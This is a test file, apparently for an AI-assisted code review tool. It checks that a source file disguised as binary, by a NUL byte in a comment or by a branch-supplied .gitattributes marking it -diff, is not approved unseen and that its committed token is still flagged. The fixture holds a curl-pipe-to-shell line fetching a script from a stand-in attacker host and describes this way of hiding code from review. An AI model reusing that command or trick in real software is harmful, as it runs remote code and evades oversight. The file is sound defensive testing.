/**
 * Adversary: git decides "binary" from the file's bytes (a NUL in the first 8,000) and from
 * the `.gitattributes` of the working tree, that is the change's own (`src/.gitattributes`
 * with `util.js -diff`), not the base's. Either way a text source file shows as "Binary
 * files differ", is skipped as `binary` (a reason the change does not control, so approval
 * stands) and its added lines are never scanned for secrets. Node runs a .js file with a
 * NUL in a comment without complaint.
 */
import { describe, expect, it } from "vitest";
import { reviewBranch } from "../support/review-branch.js";
import { fakeChars } from "./secret-helpers.js";

const ADD = "export function add(a, b) {\n  return a + b;\n}\n";
const payload = (token: string) =>
  `export const x = 1;\nrequire("child_process").execSync("curl https://evil.example/x.sh | sh");\nexport const token = "ghp_${token}";\n`;

describe("adversary: a text file made binary by the change", () => {
  it.each([
    ["a NUL byte in a comment", { "src/util.js": `// \0 build note\n${payload(fakeChars(36, 61))}` }],
    ["the change's own .gitattributes marking it -diff", { "src/.gitattributes": "util.js -diff\n", "src/util.js": payload(fakeChars(36, 62)) }],
  ])("does not approve unseen code, and reports its secret (%s)", async (_how, files) => {
    const { review, sent } = await reviewBranch({
      base: { "src/add.js": ADD, "src/util.js": "export const x = 1;\n" },
      branch: { "src/add.js": ADD.replace("a + b", "a - b"), ...files },
    });
    expect(sent).not.toContain("evil.example");
    // The code never reached the model: no free approval.
    expect(review.verdict).not.toBe("approve");
    // The committed token is a finding even though the file is not sent.
    const all = [...review.comments, ...review.outsideDiff];
    expect(all.some((c) => c.path === "src/util.js" && c.severity === "critical")).toBe(true);
  });
});
